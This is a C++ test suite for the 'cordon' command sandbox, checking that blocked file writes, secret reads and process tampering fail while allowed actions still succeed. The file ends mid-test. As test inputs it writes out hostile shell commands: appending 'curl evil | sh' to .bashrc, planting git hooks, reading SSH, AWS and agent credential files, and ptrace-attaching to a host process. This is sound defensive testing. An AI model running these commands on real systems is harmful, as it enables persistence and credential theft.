// Containment under the default policy, each checked from outside the sandbox: the
// forbidden effect did not happen, and in the same run an allowed sibling did.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <atomic>
#include <cstring>
#include <iostream>
#include <iterator>
#include <map>
#include <memory>
#include <sstream>
#include <thread>

#include "e2e/harness.hpp"

using namespace cordon_test;

namespace {

using Clock = std::chrono::steady_clock;

const std::vector<std::string> kGitIdentity = {
    "GIT_AUTHOR_NAME=Cordon Test", "GIT_AUTHOR_EMAIL=test@example.invalid", "GIT_COMMITTER_NAME=Cordon Test",
    "GIT_COMMITTER_EMAIL=test@example.invalid"};

// A git repository made outside the sandbox, with one commit.
void make_repo_outside(const Sandbox& box) {
  auto env = box.env(kGitIdentity);
  ASSERT_EQ(run_process({"git", "init", "-q"}, box.ws.path(), "", env).code, 0);
  write_file(box.ws / "README", "readme\n");
  ASSERT_EQ(run_process({"git", "add", "README"}, box.ws.path(), "", env).code, 0);
  ASSERT_EQ(run_process({"git", "commit", "-qm", "init"}, box.ws.path(), "", env).code, 0);
}

// A child of the test running argv, outside any sandbox; killed and reaped at scope exit.
class OutsideProcess {
 public:
  explicit OutsideProcess(const std::vector<std::string>& argv) {
    pid_ = ::fork();
    if (pid_ == 0) {
      int null = ::open("/dev/null", O_RDWR);
      ::dup2(null, 0);
      ::dup2(null, 1);
      ::dup2(null, 2);
      std::vector<char*> a;
      for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
      a.push_back(nullptr);
      ::execvp(a[0], a.data());
      ::_exit(121);
    }
  }
  ~OutsideProcess() {
    if (pid_ > 0 && !reaped_) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
    }
  }
  pid_t pid() const { return pid_; }
  // Still running and not stopped by a tracer or a signal.
  bool running_untouched() {
    int status = 0;
    pid_t r = ::waitpid(pid_, &status, WNOHANG | WUNTRACED);
    if (r == pid_ && !WIFSTOPPED(status)) reaped_ = true;
    if (r != 0) return false;
    std::ifstream f("/proc/" + std::to_string(pid_) + "/status");
    for (std::string line; std::getline(f, line);) {
      if (line.rfind("State:", 0) == 0 && (contains(line, "(stopped)") || contains(line, "tracing stop")))
        return false;
      if (line.rfind("TracerPid:", 0) == 0 && line.find_first_not_of(" \t0", 10) != std::string::npos)
        return false;
    }
    return true;
  }

 private:
  pid_t pid_ = -1;
  bool reaped_ = false;
};

// Host processes whose command line contains `token` (other than zombies).
std::vector<std::string> host_processes_with(const std::string& token) {
  std::vector<std::string> found;
  std::error_code ec;
  for (const auto& entry : fs::directory_iterator("/proc", ec)) {
    const std::string name = entry.path().filename().string();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::string cmdline = read_file(entry.path().string() + "/cmdline");
    for (auto& c : cmdline)
      if (c == '\0') c = ' ';
    std::string stat = read_file(entry.path().string() + "/stat");
    const bool zombie = contains(stat, ") Z ");
    // cordon's own helpers (e.g. its placeholder cleaner) carry cordon's command line.
    const bool cordon_itself = cmdline.rfind(cordon_binary() + " ", 0) == 0;
    if (!zombie && !cordon_itself && contains(cmdline, token)) found.push_back(name + ": " + cmdline);
  }
  return found;
}

// Accepts connections on a socket in a background thread and counts them.
class Listener {
 public:
  // A TCP listener on 127.0.0.1, ephemeral port.
  static std::unique_ptr<Listener> tcp_loopback() {
    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || ::listen(fd, 16) != 0)
      return nullptr;
    socklen_t len = sizeof a;
    ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len);
    return std::unique_ptr<Listener>(new Listener(fd, std::to_string(ntohs(a.sin_port))));
  }
  // A unix socket listener in the abstract namespace ("\0name").
  static std::unique_ptr<Listener> abstract_unix(const std::string& name) {
    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    std::memcpy(a.sun_path + 1, name.data(), name.size());
    auto len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&a), len) != 0 || ::listen(fd, 16) != 0)
      return nullptr;
    return std::unique_ptr<Listener>(new Listener(fd, name));
  }
  ~Listener() {
    stop_ = true;
    thread_.join();
    ::close(fd_);
  }
  const std::string& address() const { return address_; }
  int connections() const { return connections_; }

 private:
  Listener(int fd, std::string address) : fd_(fd), address_(std::move(address)) {
    thread_ = std::thread([this] {
      while (!stop_) {
        pollfd p{fd_, POLLIN, 0};
        if (::poll(&p, 1, 50) <= 0) continue;
        int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
        if (c >= 0) {
          ++connections_;
          ::close(c);
        }
      }
    });
  }
  int fd_;
  std::string address_;
  std::atomic<bool> stop_{false};
  std::atomic<int> connections_{0};
  std::thread thread_;
};

// Starts `cordon run --no-config [opts] -- sh -c SCRIPT` in the background, output discarded.
pid_t spawn_cordon(const Sandbox& box, const std::string& script, const std::vector<std::string>& opts = {}) {
  std::vector<std::string> argv = {cordon_binary(), "run", "--no-config"};
  argv.insert(argv.end(), opts.begin(), opts.end());
  argv.insert(argv.end(), {"--", "sh", "-c", script});
  return spawn_detached(argv, box.ws.path(), box.env());
}

// Waits for `pid` for up to timeout_ms; returns the exit code as cordon reports it, or -1.
int wait_exit(pid_t pid, int timeout_ms) {
  for (int waited = 0; waited <= timeout_ms; waited += 20) {
    int status = 0;
    if (::waitpid(pid, &status, WNOHANG) == pid)
      return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
    ::usleep(20 * 1000);
  }
  ::kill(pid, SIGKILL);
  ::waitpid(pid, nullptr, 0);
  return -1;
}

// Runs `script` under a pty made by script(1), cordon in between when `sandboxed`.
Outcome under_pty(const Sandbox& box, const std::string& script, bool sandboxed) {
  std::string inner = "sh -c '" + script + "'";
  if (sandboxed) inner = sh_quote(cordon_binary()) + " run --no-config -- " + inner;
  return run_process({"script", "-qec", inner, "/dev/null"}, box.ws.path(), "", box.env());
}

}  // namespace

// ---- filesystem ---------------------------------------------------------------------

TEST(Containment, WriteOutsideTheWorkspaceIsDenied) {
  Sandbox box;
  OutsideDir outside;
  write_file(outside / "existing.txt", "original\n");
  auto o = box.sh("echo ok > inside.txt; echo bad > " + outside.path() + "/existing.txt; echo bad > " +
                  outside.path() + "/new.txt; mkdir " + outside.path() + "/newdir; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n");
  EXPECT_EQ(read_file(outside / "existing.txt"), "original\n");
  EXPECT_FALSE(exists(outside / "new.txt"));
  EXPECT_FALSE(exists(outside / "newdir"));
}

TEST(Containment, HomeDotfilesAreNotWritable) {
  Sandbox box;
  write_file(box.home / ".bashrc", "# original bashrc\n");
  const auto before = snapshot(box.home.path());
  auto o = box.sh(
      "echo ok > inside.txt; echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.profile; "
      "mkdir -p ~/.config/autostart; echo x > ~/.config/autostart/evil.desktop; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n");
  EXPECT_EQ(read_file(box.home / ".bashrc"), "# original bashrc\n");
  EXPECT_FALSE(exists(box.home / ".profile"));
  EXPECT_FALSE(exists(box.home / ".config/autostart"));
  // cordon may keep its own state under the home; nothing else may appear.
  auto after = snapshot(box.home.path());
  std::erase_if(after, [](const auto& kv) { return kv.first.rfind(".local", 0) == 0; });
  EXPECT_EQ(after, before);
}

TEST(Containment, GitHooksAndConfigOfAnExistingRepoAreProtected) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  Sandbox box;
  make_repo_outside(box);
  const auto hooks_before = snapshot(box.ws / ".git/hooks");
  const std::string config_before = read_file(box.ws / ".git/config");
  auto o = box.sh(
      "echo ok > normal.txt; "
      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
      "echo evil >> .git/hooks/pre-push.sample; "
      "printf '[core]\\n\\thooksPath = /var/tmp\\n' >> .git/config; "
      "git config core.fsmonitor 'touch /var/tmp/pwned'; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
  EXPECT_FALSE(exists(box.ws / ".git/hooks/pre-commit"));
  EXPECT_EQ(snapshot(box.ws / ".git/hooks"), hooks_before);
  EXPECT_EQ(read_file(box.ws / ".git/config"), config_before);
}

TEST(Containment, GitReadOnlyProtectsAllOfDotGit) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  Sandbox box;
  make_repo_outside(box);
  const auto git_before = snapshot(box.ws / ".git");
  auto o = box.sh("echo ok > normal.txt; git add normal.txt; echo evil > .git/HEAD; true",
                  {"--git", "read-only"}, "", kGitIdentity);
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
  EXPECT_EQ(snapshot(box.ws / ".git"), git_before);
}

// A repository created inside the sandbox had no protected paths during the run, so its
// hooks and code-running config are neutralised afterwards, before git runs them outside.
TEST(Containment, RepositoryCreatedInsideCannotRunCodeOutsideLater) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  Sandbox box;
  OutsideDir markers;
  const std::string hook_marker = markers / "hook-ran", fsmonitor_marker = markers / "fsmonitor-ran";
  write_file(box.ws / "hook.sh", "#!/bin/sh\ntouch " + hook_marker + "\n");
  auto o = box.sh(
      "git init -q && { install -m 755 hook.sh .git/hooks/pre-commit; "
      "git config core.fsmonitor 'touch " +
          fsmonitor_marker +
          "; false'; true; } && "
          "git add hook.sh && git commit -qm inside --no-verify && echo set-up",
      {}, "", kGitIdentity);
  EXPECT_TRUE(contains(o.out, "set-up")) << o.out << o.err;
  // Refused when made (cordon's creation broker) or disabled after the run: said either way.
  EXPECT_TRUE(contains(o.err, "pre-commit")) << "cordon should say what it refused or disabled:\n" << o.err;

  // Outside, git still works on the repository, and neither the hook nor fsmonitor runs.
  const auto env = box.env(kGitIdentity);
  auto status = run_process({"git", "status", "--short"}, box.ws.path(), "", env);
  EXPECT_EQ(status.code, 0) << status.err;
  auto commit = run_process({"git", "commit", "-qm", "outside", "--allow-empty"}, box.ws.path(), "", env);
  EXPECT_EQ(commit.code, 0) << commit.err;
  auto log = run_process({"git", "log", "--format=%s"}, box.ws.path(), "", env);
  EXPECT_EQ(log.out, "outside\ninside\n");
  EXPECT_FALSE(exists(hook_marker));
  EXPECT_FALSE(exists(fsmonitor_marker));
  EXPECT_NE(::access((box.ws / ".git/hooks/pre-commit").c_str(), X_OK), 0);
}

TEST(Containment, SymlinkInTheWorkspacePointingOutsideDoesNotEscape) {
  Sandbox box;
  OutsideDir outside;
  write_file(outside / "target.txt", "original\n");
  ASSERT_EQ(::symlink((outside / "target.txt").c_str(), (box.ws / "file-link").c_str()), 0);
  ASSERT_EQ(::symlink(outside.path().c_str(), (box.ws / "dir-link").c_str()), 0);
  auto o = box.sh(
      "echo ok > inside.txt; echo bad > file-link; echo bad > dir-link/new.txt; "
      "ln -s " +
      outside.path() + "/target.txt made-inside; echo bad > made-inside; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n");
  EXPECT_EQ(read_file(outside / "target.txt"), "original\n");
  EXPECT_FALSE(exists(outside / "new.txt"));
}

TEST(Containment, SandboxCannotHardlinkAnOutsideFileIntoTheWorkspace) {
  Sandbox box;
  OutsideDir outside;
  write_file(outside / "target.txt", "original\n");
  write_file(box.ws / "own.txt", "own\n");
  auto o = box.sh("ln own.txt own-link && echo linked-own; ln " + outside.path() +
                  "/target.txt stolen && echo linked-outside; echo bad > stolen; true");
  EXPECT_TRUE(contains(o.out, "linked-own")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "linked-outside")) << o.out;
  EXPECT_EQ(read_file(outside / "target.txt"), "original\n");
}

// A hardlink made beforehand (outside the sandbox) names the same inode as the outside
// file: path-based confinement cannot tell them apart. cordon's broker opens every file
// for writing itself and gives a file with other names its own copy first, so the
// outside name keeps its bytes. The sandbox cannot make such a link itself:
// SandboxCannotHardlinkAnOutsideFileIntoTheWorkspace.
TEST(Containment, HardlinkMadeBeforehandDoesNotLetTheSandboxWriteTheOutsideFile) {
  Sandbox box;
  OutsideDir outside;
  write_file(outside / "target.txt", "original\n");
  if (::link((outside / "target.txt").c_str(), (box.ws / "hardlink").c_str()) != 0)
    GTEST_SKIP() << "cannot hardlink " << outside.path() << " into " << box.ws.path() << ": "
                 << std::strerror(errno) << " (different filesystems or protected_hardlinks)";
  auto o = box.sh(
      "echo ok > inside.txt; echo bad > hardlink; echo more >> hardlink; truncate -s 1 hardlink; "
      "cat hardlink");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n") << o.err;
  EXPECT_EQ(read_file(outside / "target.txt"), "original\n");
  EXPECT_EQ(read_file(box.ws / "hardlink"), "b") << "the command writes its own copy";
  EXPECT_EQ(fs::hard_link_count(outside / "target.txt"), 1u);
}

TEST(Containment, RenamingProtectedDirectoriesAwayFails) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  Sandbox box;
  make_repo_outside(box);
  const auto git_before = snapshot(box.ws / ".git/hooks");
  const std::string config_before = read_file(box.ws / ".git/config");
  auto o = box.sh(
      "echo ok > normal.txt; "
      "mv .git/hooks .git/h2; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; "
      "mv .git/config .git/config.old; echo evil > .git/config; "
      "mv .git .git2; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; "
      "mv .git2/hooks .git2/h3; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
  EXPECT_FALSE(exists(box.ws / ".git2"));
  EXPECT_FALSE(exists(box.ws / ".git/h2"));
  EXPECT_FALSE(exists(box.ws / ".git/config.old"));
  EXPECT_FALSE(exists(box.ws / ".git/hooks/pre-commit"));
  EXPECT_EQ(snapshot(box.ws / ".git/hooks"), git_before);
  EXPECT_EQ(read_file(box.ws / ".git/config"), config_before);
}

TEST(Containment, RenamingAgentConfigDirectoryAwayFails) {
  Sandbox box;
  write_file(box.ws / ".claude/settings.json", "{}\n");
  auto o = box.sh(
      "echo ok > normal.txt; mv .claude .claude-old; mkdir -p .claude; "
      "echo '{\"hooks\":1}' > .claude/settings.json; true");
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
  EXPECT_FALSE(exists(box.ws / ".claude-old"));
  EXPECT_EQ(read_file(box.ws / ".claude/settings.json"), "{}\n");
}

TEST(Containment, MissingProtectedPathsCannotBeCreated) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  Sandbox box;
  make_repo_outside(box);
  fs::remove_all(box.ws / ".git/hooks");
  const auto before = snapshot(box.ws.path());
  auto o = box.sh(
      "echo ok > normal.txt; "
      "mkdir -p .claude; echo '{}' > .claude/settings.json; "
      "mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
      "mkdir -p .cordon; echo 'mode = \"full-access\"' > .cordon/config.toml; "
      "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; true");
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
  // Nothing was created: at most cordon's own empty placeholders are still there...
  auto after = snapshot(box.ws.path());
  after.erase("normal.txt");
  std::erase_if(after, [&](const auto& kv) {
    return !before.count(kv.first) && (kv.second == "dir" || kv.second.empty()) &&
           fs::is_empty(box.ws / kv.first);
  });
  EXPECT_EQ(after, before);
  // ...and once cordon has cleaned up, the workspace looks exactly as before.
  auto settled = snapshot(box.ws.path());
  for (int waited = 0; waited < 5000 && settled.size() != before.size() + 1; waited += 50) {
    ::usleep(50 * 1000);
    settled = snapshot(box.ws.path());
  }
  settled.erase("normal.txt");
  EXPECT_EQ(settled, before);
  EXPECT_FALSE(exists(box.ws / ".claude"));
  EXPECT_FALSE(exists(box.ws / ".vscode"));
  EXPECT_FALSE(exists(box.ws / ".cordon"));
  EXPECT_FALSE(exists(box.ws / ".git/hooks"));
}

TEST(Containment, ExtraProtectedPathStaysReadOnly) {
  Sandbox box;
  write_file(box.ws / "ci/deploy.sh", "echo deploy\n");
  auto o = box.sh("echo ok > normal.txt; echo evil > ci/deploy.sh; echo x > ci/new.sh; true",
                  {"--protect", box.ws / "ci"});
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
  EXPECT_EQ(read_file(box.ws / "ci/deploy.sh"), "echo deploy\n");
  EXPECT_FALSE(exists(box.ws / "ci/new.sh"));
}

// Many protected paths share their directories, opened once (mounts.cpp): a directory
// protected between files inside it, files of several directories in turn, a path given
// twice, a denied file below a protected directory. Every one stays read-only, the
// denied one reads empty, and the rest of the workspace stays writable.
TEST(Containment, ManyOverlappingProtectedPathsStayReadOnly) {
  Sandbox box;
  std::vector<std::string> opts;
  for (int d = 0; d < 3; ++d)
    for (int i = 0; i < 40; ++i)
      write_file(box.ws / ("m" + std::to_string(d) + "/" + std::to_string(i)), "orig\n");
  write_file(box.ws / "m0/secret", "SECRET\n");
  for (int i = 0; i < 40; ++i) {
    for (int d = 0; d < 3; ++d)
      opts.push_back("--protect=" + (box.ws / ("m" + std::to_string(d) + "/" + std::to_string(i))));
    if (i == 20) opts.push_back("--protect=" + (box.ws / "m1"));
  }
  opts.push_back("--protect=" + (box.ws / "m2/7"));
  opts.push_back("--deny-read=" + (box.ws / "m0/secret"));
  auto o = box.sh(
      "for f in m0/0 m0/39 m1/0 m1/39 m2/7 m2/39; do echo evil > $f; done; echo x > m1/new; echo x > m0/new; "
      "cat m0/secret; echo ok > normal.txt; true",
      opts);
  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
  for (const char* f : {"m0/0", "m0/39", "m1/0", "m1/39", "m2/7", "m2/39"})
    EXPECT_EQ(read_file(box.ws / f), "orig\n") << f;
  EXPECT_FALSE(exists(box.ws / "m1/new")) << "m1 is protected whole";
  EXPECT_EQ(read_file(box.ws / "m0/new"), "x\n") << "m0 itself is not protected: " << o.err;
  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
}

// A writable root with many protected paths clones them from detached copies of itself; one
// with a few clones them from the live tree (mounts.cpp, kDetachedCopyMin). Both kinds in one
// run, one nested in the other: the inner root's path must be taken from the inner root (not
// from the outer root's copy), and every protected path, on either side of the threshold,
// stays read-only (and nosuid, nodev) while the rest of both roots stays writable.
TEST(Containment, ProtectedPathsAboveAndBelowTheCopyThresholdStayReadOnly) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  Sandbox box;
  make_repo_outside(box);  // .git: a pin and two protected paths (hooks, config)
  std::vector<std::string> opts = {"--writable", box.ws / "inner"};
  for (int i = 0; i < 20; ++i) {
    write_file(box.ws / ("many/" + std::to_string(i)), "orig\n");
    opts.push_back("--protect=" + (box.ws / ("many/" + std::to_string(i))));
  }
  write_file(box.ws / "inner/few", "orig\n");
  opts.push_back("--protect=" + (box.ws / "inner/few"));
  const std::string show_mounts =
      "grep -E ' " + box.ws.path() + "/(many/0|inner/few|\\.git) ' /proc/self/mountinfo";
  const std::string writes =
      "echo evil > many/0; echo evil > many/19; echo evil > inner/few; echo ok > inner/made; echo ok > made";
  auto o = box.sh(writes + "; " + show_mounts + "; true", opts);
  EXPECT_EQ(read_file(box.ws / "made"), "ok\n") << o.err;
  EXPECT_EQ(read_file(box.ws / "inner/made"), "ok\n") << o.err;
  for (const char* f : {"many/0", "many/19", "inner/few"}) EXPECT_EQ(read_file(box.ws / f), "orig\n") << f;
  // The mount options of each: many/0 and inner/few read-only, .git (a pin) writable; all nosuid, nodev.
  int lines = 0;
  std::istringstream out(o.out);
  for (std::string line; std::getline(out, line);) {
    ++lines;
    const bool pin = contains(line, "/.git ");
    EXPECT_TRUE(contains(line, pin ? " rw,nosuid,nodev" : " ro,nosuid,nodev")) << line;
  }
  EXPECT_EQ(lines, 3) << o.out << o.err;
}

// Denied files in one directory share it, opened once, like protected paths (mounts.cpp):
// files of several directories in turn, one inside a protected directory (masked after
// that directory's bind: the mask must land in the bind, not under it), protected and
// denied files side by side. Each denied file reads empty through its own path, through
// a symbolic link made beforehand, after its directory is renamed, and through a hard
// link the command tries to make; new files next to them stay readable and writable.
TEST(Containment, ManyDeniedFilesInSharedDirectoriesStayHidden) {
  Sandbox box;
  std::vector<std::string> opts;
  for (int d = 0; d < 3; ++d)
    for (int i = 0; i < 30; ++i)
      write_file(box.ws / ("s" + std::to_string(d) + "/" + std::to_string(i)),
                 "SECRET-" + std::to_string(i) + "\n");
  write_file(box.ws / "p/keep", "orig\n");
  write_file(box.ws / "p/inner", "SECRET-inner\n");
  for (int i = 0; i < 30; ++i) {
    for (int d = 0; d < 3; ++d) {
      if (d == 2 && i % 2) continue;  // s2: odd files stay readable
      opts.push_back("--deny-read=" + (box.ws / ("s" + std::to_string(d) + "/" + std::to_string(i))));
    }
  }
  opts.push_back("--protect=" + (box.ws / "p"));
  opts.push_back("--deny-read=" + (box.ws / "p/inner"));
  opts.push_back("--protect=" + (box.ws / "s2/1"));
  ASSERT_EQ(::symlink("s0/5", (box.ws / "link").c_str()), 0);
  auto o = box.sh(
      "cat s0/0 s0/29 s1/0 s1/29 s2/0 s2/28 p/inner link; echo; cat s2/1 s2/29; "
      "ln s0/7 hard 2>/dev/null; cat hard 2>/dev/null; "
      "echo new > s0/new; cat s0/new; echo evil > s2/1; echo evil > p/keep; "
      "mv s1 s1x 2>/dev/null; cat s1x/3 s1/3 2>/dev/null; true",
      opts);
  EXPECT_FALSE(contains(o.out, "SECRET-0\n")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "SECRET-28")) << o.out;
  EXPECT_FALSE(contains(o.out, "SECRET-inner")) << o.out;
  EXPECT_FALSE(contains(o.out, "SECRET-5")) << "through a symbolic link: " << o.out;
  EXPECT_FALSE(contains(o.out, "SECRET-7")) << "through a hard link made inside: " << o.out;
  EXPECT_FALSE(contains(o.out, "SECRET-3")) << "after renaming the directory: " << o.out;
  EXPECT_TRUE(contains(o.out, "SECRET-1\n") && contains(o.out, "SECRET-29\n"))
      << "s2's odd files are not denied: " << o.out << o.err;
  EXPECT_TRUE(contains(o.out, "new\n")) << "a new file beside denied ones: " << o.out << o.err;
  EXPECT_EQ(read_file(box.ws / "s2/1"), "SECRET-1\n") << "protected beside denied ones";
  EXPECT_EQ(read_file(box.ws / "p/keep"), "orig\n");
  EXPECT_EQ(read_file(box.ws / "s0/0"), "SECRET-0\n") << "the host's file is untouched";
}

// ---- reads ----------------------------------------------------------------------------

TEST(Containment, SecretsInHomeAreUnreadableButOtherHomeFilesAreNot) {
  Sandbox box;
  write_file(box.home / "notes.txt", "visible-notes\n");
  write_file(box.home / ".ssh/id_rsa", "SECRET-SSH-KEY\n");
  write_file(box.home / ".aws/credentials", "SECRET-AWS\n");
  write_file(box.home / ".netrc", "SECRET-NETRC\n");
  write_file(box.home / ".config/gh/hosts.yml", "SECRET-GH\n");
  auto o = box.sh(
      "cat ~/notes.txt; cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.config/gh/hosts.yml; "
      "ls -a ~/.ssh; true");
  EXPECT_TRUE(contains(o.out, "visible-notes")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
  EXPECT_FALSE(contains(o.out, "id_rsa")) << "the directory listing must not show the key either:\n" << o.out;
}

// The extended list: git's XDG credential store, the agents' own logins, database and
// registry passwords. Their neighbours stay readable (git's config beside its credentials).
TEST(Containment, ExtendedSecretsAreUnreadable) {
  Sandbox box;
  write_file(box.home / ".config/git/config", "[user]\n\tname = visible-git-config\n");
  const char* secrets[] = {".config/git/credentials",
                           ".claude/.credentials.json",
                           ".codex/auth.json",
                           ".gemini/oauth_creds.json",
                           ".pgpass",
                           ".config/containers/auth.json",
                           ".docker/config.json",
                           ".bash_history",
                           ".config/sops/age/keys.txt"};
  std::string script = "cat ~/.config/git/config; ";
  for (const char* s : secrets) {
    write_file(box.home / s, std::string("SECRET-") + s + "\n");
    script += std::string("cat ~/") + s + " 2>/dev/null; ";
  }
  write_file(box.home / ".claude/settings.json", "visible-claude-settings\n");
  auto o = box.sh(script + "cat ~/.claude/settings.json; true");
  EXPECT_TRUE(contains(o.out, "visible-git-config")) << o.out << o.err;
  EXPECT_TRUE(contains(o.out, "visible-claude-settings")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
}

// As root, files only root can read stay unreadable inside (for another user the kernel
// refuses them anyway, so that half is only meaningful as root).
TEST(Containment, RootOnlySystemFilesAreUnreadableEvenAsRoot) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root: /etc/shadow is unreadable to other users anyway";
  if (read_file("/etc/shadow").empty()) GTEST_SKIP() << "this host has no readable /etc/shadow";
  Sandbox box;
  auto o = box.sh("wc -c < /etc/shadow; echo rc=$?; head -c 20 /etc/passwd >/dev/null && echo passwd-ok");
  EXPECT_TRUE(contains(o.out, "passwd-ok")) << o.out << o.err;
  // A masked file is empty (or unreadable): never the host's contents.
  EXPECT_TRUE(contains(o.out, "0\nrc=0") || contains(o.out, "rc=1") || contains(o.out, "rc=2")) << o.out;
}

TEST(Containment, AllowReadReopensOneSecret) {
  Sandbox box;
  write_file(box.home / ".npmrc", "registry-config\n");
  write_file(box.home / ".netrc", "SECRET-NETRC\n");
  auto o = box.sh("cat ~/.npmrc ~/.netrc; true", {"--allow-read", box.home / ".npmrc"});
  EXPECT_TRUE(contains(o.out, "registry-config")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
}

TEST(Containment, DenyReadHidesAWorkspaceFile) {
  Sandbox box;
  write_file(box.ws / "secret.txt", "SECRET-WS\n");
  write_file(box.ws / "public.txt", "public\n");
  auto o = box.sh("cat public.txt secret.txt; true", {"--deny-read", box.ws / "secret.txt"});
  EXPECT_TRUE(contains(o.out, "public")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
  EXPECT_EQ(read_file(box.ws / "secret.txt"), "SECRET-WS\n");
}

// ---- processes -----------------------------------------------------------------------

TEST(Containment, ProcessOutsideCannotBeSignalled) {
  Sandbox box;
  OutsideProcess victim({"sleep", "30"});
  ASSERT_TRUE(victim.running_untouched());
  const std::string pid = std::to_string(victim.pid());
  auto o = box.sh("sleep 30 & own=$!; kill $own && echo killed-own; kill " + pid + "; kill -KILL " + pid +
                  "; kill -STOP " + pid + "; true");
  EXPECT_TRUE(contains(o.out, "killed-own")) << o.out << o.err;
  ::usleep(100 * 1000);
  EXPECT_TRUE(victim.running_untouched());
}

TEST(Containment, ProcessOutsideCannotBePtraced) {
  if (!have_tool("python3")) GTEST_SKIP() << "python3 is not installed";
  Sandbox box;
  OutsideProcess victim({"sleep", "30"});
  const std::string pid = std::to_string(victim.pid());
  // PTRACE_ATTACH = 16, PTRACE_SEIZE = 0x4206.
  const std::string py =
      "import ctypes, os\n"
      "libc = ctypes.CDLL(None, use_errno=True)\n"
      "for req in (16, 0x4206):\n"
      "    r = libc.ptrace(req, " +
      pid +
      ", None, None)\n"
      "    print('ptrace', req, r, os.strerror(ctypes.get_errno()))\n";
  write_file(box.ws / "trace.py", py);
  std::string script = "python3 trace.py";
  if (have_tool("strace")) script += "; timeout 5 strace -p " + pid + " -e trace=none; echo strace=$?";
  auto o = box.sh(script);
  EXPECT_TRUE(contains(o.out, "ptrace 16 -1")) << o.out << o.err;
  EXPECT_TRUE(contains(o.out, "ptrace 16902 -1")) << o.out << o.err;
  EXPECT_FALSE(contains(o.out, "strace=0")) << o.out << o.err;
  EXPECT_TRUE(victim.running_untouched());
}

TEST(Containment, SetsidDaemonDoesNotOutliveTheCommand) {
  Sandbox box;
  // The daemon beats into the workspace; after cordon exits the beat must stop, and no
  // process carrying the daemon's unique sleep length may remain on the host.
  const std::string token = "7." + std::to_string(::getpid()) + "9";
  const std::string script =
      "setsid sh -c 'sleep " + token +
      " & while :; do date +%s%N > beat; sleep 0.05; done' </dev/null >/dev/null 2>&1 & "
      "while ! test -s beat; do sleep 0.05; done; echo started";
  {
    // Without cordon the daemon survives and the scan finds it, so the check below can fail.
    TempDir bare_dir;
    auto bare = run_process({"sh", "-c", script}, bare_dir.path());
    ASSERT_TRUE(contains(bare.out, "started")) << bare.err;
    auto survivors = host_processes_with("sleep " + token);
    EXPECT_FALSE(survivors.empty());
    for (const auto& s : survivors) ::kill(std::stoi(s), SIGKILL);
  }
  auto start = Clock::now();
  auto o = box.sh(script);
  EXPECT_EQ(o.code, 0) << o.err;
  EXPECT_TRUE(contains(o.out, "started"));
  EXPECT_LT(Clock::now() - start, std::chrono::seconds(5));
  ::usleep(300 * 1000);
  auto left = host_processes_with("sleep " + token);
  EXPECT_TRUE(left.empty()) << left.front();
  const std::string beat = read_file(box.ws / "beat");
  ::usleep(300 * 1000);
  EXPECT_EQ(read_file(box.ws / "beat"), beat);
}

TEST(Containment, TiocstiIntoTheCallersTerminalIsDenied) {
  if (!have_tool("python3") || !have_tool("script")) GTEST_SKIP() << "needs python3 and script (util-linux)";
  Sandbox box;
  write_file(box.ws / "sti.py",
             "import fcntl, os, sys, termios\n"
             "print('tty' if os.isatty(0) else 'no-tty', flush=True)\n"
